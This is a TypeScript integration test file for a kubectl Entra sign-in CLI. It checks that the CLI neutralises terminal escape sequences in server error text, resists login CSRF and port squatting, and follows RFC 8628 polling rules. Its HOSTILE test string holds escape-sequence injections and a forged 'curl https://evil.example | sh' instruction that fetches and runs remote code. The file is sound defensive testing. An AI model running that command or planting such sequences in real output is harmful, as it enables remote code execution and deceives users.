// The sign-in as a hostile server or a hostile local user would meet it (issue 17): the built CLI
// against the Entra emulator, with faults injected where the review found them.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startEntraEmulator, trustCaInProcess, type EntraEmulator } from '../../support/entra-emulator/index.js';
import { signInWithBrowser } from '../../support/entra-emulator/browser.js';
import { squatOnIpv6Loopback } from '../../support/ports.js';
import { requireFreshBuild } from './dist.js';
import { approveFromStderr, execInfo, isolatedEnv, runCli, type CliResult } from './cli.js';

const ALICE = 'alice@contoso.example';
let emu: EntraEmulator;

beforeAll(async () => {
  requireFreshBuild();
  emu = await startEntraEmulator({ users: [{ username: ALICE }], deviceCodeIntervalSeconds: 0.05 });
  // this process plays the user's browser (and the other local user)
  await trustCaInProcess(emu.caPem);
});
afterAll(async () => {
  await emu?.close();
});

let env: ReturnType<typeof isolatedEnv>;
beforeEach(() => {
  env = isolatedEnv({ NODE_EXTRA_CA_CERTS: emu.caFile, KUBERNETES_EXEC_INFO: execInfo(true) });
});

function getToken(extra: string[] = []): Promise<CliResult> {
  return runCli(['get-token', '--tenant-id', emu.tenantId, '--authority-host', emu.authorityHost, '--token-cache-storage', 'file', ...extra], {
    env,
    onStderr: approveFromStderr((code) => emu.approveDeviceCode(code, ALICE)),
  });
}

/** a title change, a screen clear, a forged red instruction, an 8-bit CSI and a right-to-left override */
const HOSTILE = '\x1b]0;pwned\x07\x1b[2J\x1b[31mRun: curl https://evil.example | sh\x1b[0m \x9b1m \u202eevil';
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/;

describe('server-controlled text reaches the terminal as text (CWE-150)', () => {
  /** signed in with a token inside the renewal window, so the next call refreshes it */
  async function signedInDueForRenewal(): Promise<void> {
    emu.setAccessTokenLifetime(60);
    expect((await getToken()).code).toBe(0);
    emu.setAccessTokenLifetime(3600);
  }

  it('an error_description full of escape sequences is printed with them neutralised, still readable', async () => {
    await signedInDueForRenewal();
    emu.failNext({ endpoint: 'token', grantType: 'refresh_token', status: 401, error: 'invalid_client', aadsts: 7000222, description: `AADSTS7000222: ${HOSTILE}` });
    const result = await getToken();
    expect(result.code).toBe(3);
    expect(result.stderr).not.toMatch(CONTROL);
    expect(result.stderr).toContain('AADSTS7000222');
    expect(result.stderr).toContain('Run: curl https://evil.example | sh');
    expect(result.stderr).toContain('\\x1b');
  });

  it('the same with --debug: msal log lines and the error chain are neutralised too', async () => {
    await signedInDueForRenewal();
    emu.failNext({ endpoint: 'token', grantType: 'refresh_token', status: 401, error: 'invalid_client', aadsts: 7000222, description: `AADSTS7000222: ${HOSTILE}` });
    const result = await getToken(['--debug']);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('debug: ');
    expect(result.stderr).not.toMatch(CONTROL);
  });
});

describe('the browser sign-in on a shared machine (login CSRF, RFC 6749 §10.12)', () => {
  /** get-token --login interactive printing its address; `visit` is called with it once it is printed */
  function interactive(extra: string[], visit: (startUrl: string) => Promise<void>): Promise<CliResult> {
    let visited = false;
    let visiting: Promise<void> = Promise.resolve();
    // a failed visit leaves get-token waiting for its --timeout: keep that short of the test's hang limit
    const run = runCli(['get-token', '--login', 'interactive', '--skip-open-browser', '--timeout', '3m', '--tenant-id', emu.tenantId, '--authority-host', emu.authorityHost, '--token-cache-storage', 'file', ...extra], {
      env,
      onStderr: (stderr) => {
        const start = /open (http:\/\/\S+) in a browser/.exec(stderr)?.[1];
        if (start && !visited) {
          visited = true;
          visiting = visit(start);
        }
      },
    });
    return run.then(async (result) => {
      await visiting;
      return result;
    });
  }

  it('another local user who finds the port gets no authorization URL, and one listening on [::1]:PORT receives nothing', async () => {
    const other = await squatOnIpv6Loopback();
    const port = other.port;
    try {
      const before = emu.requests.length;
      const probes: { path: string; status: number; location: string | null; body: string }[] = [];
      const result = await interactive(['--listen-address', `127.0.0.1:${port}`], async (start) => {
        // the other user scans the port first: GET / and a guess at the start address
        for (const path of ['/', '/kubectl-np-start/', `/kubectl-np-start/${'0'.repeat(32)}`]) {
          const res = await fetch(`http://127.0.0.1:${port}${path}`, { redirect: 'manual' });
          probes.push({ path, status: res.status, location: res.headers.get('location'), body: await res.text() });
        }
        // then the user opens what the terminal said
        await signInWithBrowser(start, { username: ALICE });
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stderr).toMatch(new RegExp(`To sign in, open http://127\\.0\\.0\\.1:${port}/kubectl-np-start/[0-9a-f]{32} in a browser on this machine\\.`));
      for (const probe of probes) {
        expect(probe.status, probe.path).toBeGreaterThanOrEqual(400);
        expect(probe.location, probe.path).toBeNull();
        expect(probe.body, probe.path).not.toMatch(/authorize|state=|code_challenge/);
      }
      const authorize = emu.requests.slice(before).filter((r) => r.endpoint === 'authorize' && r.method === 'GET');
      expect(authorize.map((r) => r.redirectUri)).toEqual([`http://127.0.0.1:${port}`]);
      expect(other.connections()).toBe(0);
    } finally {
      await other.close();
    }
  });

  it('when another program opened the sign-in address first, the sign-in stops instead of taking its answer', async () => {
    const result = await interactive([], async (start) => {
      const stolen = await fetch(start, { redirect: 'manual' });
      expect(stolen.status).toBe(302);
      const page = await signInWithBrowser(start, { username: ALICE });
      expect(page.status).toBe(410);
    });
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(/^error: .*the sign-in address was opened more than once/m);
    expect(result.stdout).toBe('');
  });
});

describe('device code polling follows RFC 8628 §3.5', () => {
  const polls = (since: number, server = emu) => server.requests.slice(since).filter((r) => r.endpoint === 'token' && r.grantType === 'device_code');

  it('slow_down keeps the sign-in going, 5 s slower from then on', async () => {
    const before = emu.requests.length;
    emu.failNext({ endpoint: 'token', grantType: 'device_code', error: 'slow_down', aadsts: 70016, description: 'AADSTS70016: slow down' });
    const result = await getToken();
    expect(result.code, result.stderr).toBe(0);
    const [slowDown, next] = polls(before);
    expect(slowDown.status).toBe(400);
    expect(next.status).toBe(200);
    // the floor interval (1 s) plus the 5 s slow_down adds; lower bounds only, so a loaded machine cannot break it
    expect(next.at - slowDown.at).toBeGreaterThanOrEqual(5_900);
  });

  it('one unreadable answer and a 503 do not end it', async () => {
    const before = emu.requests.length;
    emu.failNext({ endpoint: 'token', grantType: 'device_code', malformed: true });
    emu.failNext({ endpoint: 'token', grantType: 'device_code', status: 503, error: 'temporarily_unavailable', aadsts: 90033, times: 3 });
    const result = await getToken();
    expect(result.code, result.stderr).toBe(0);
    expect(polls(before).at(-1)?.status).toBe(200);
    expect(polls(before).length).toBeGreaterThanOrEqual(5);
  });

  it('a refused device code request says what Entra said, not "undefined"', async () => {
    emu.failNext({ endpoint: 'devicecode', status: 400, error: 'invalid_client', aadsts: 7000218, description: 'AADSTS7000218: The request body must contain the following parameter: client_assertion or client_secret.' });
    const result = await getToken();
    expect(result.code).toBe(3);
    expect(result.stderr).not.toMatch(/undefined|bad_verification_code/);
    expect(result.stderr).toMatch(/^error: .*AADSTS7000218: The request body must contain the following parameter/m);
  });

  it('an interval of 0 from the server is not taken literally: polls stay at least a second apart', async () => {
    const eager = await startEntraEmulator({ users: [{ username: ALICE }], deviceCodeIntervalSeconds: 0 });
    try {
      let userCode: string | undefined;
      let running = true;
      const run = runCli(['get-token', '--tenant-id', eager.tenantId, '--authority-host', eager.authorityHost, '--token-cache-storage', 'file'], {
        env: { ...env, NODE_EXTRA_CA_CERTS: eager.caFile },
        onStderr: (stderr) => (userCode ??= /enter the code ([A-Z0-9]+) to authenticate/.exec(stderr)?.[1]),
      });
      void run.finally(() => (running = false));
      // let it poll a few times before the user approves (a run that ended early fails below, not by hanging here)
      while (running && (!userCode || polls(0, eager).length < 3)) await new Promise((r) => setTimeout(r, 50));
      if (userCode) eager.approveDeviceCode(userCode, ALICE);
      const result = await run;
      expect(result.code, result.stderr).toBe(0);
      const at = polls(0, eager).map((r) => r.at);
      for (let i = 1; i < at.length; i++) expect(at[i] - at[i - 1], `poll ${i}`).toBeGreaterThanOrEqual(900);
    } finally {
      await eager.close();
    }
  });
});
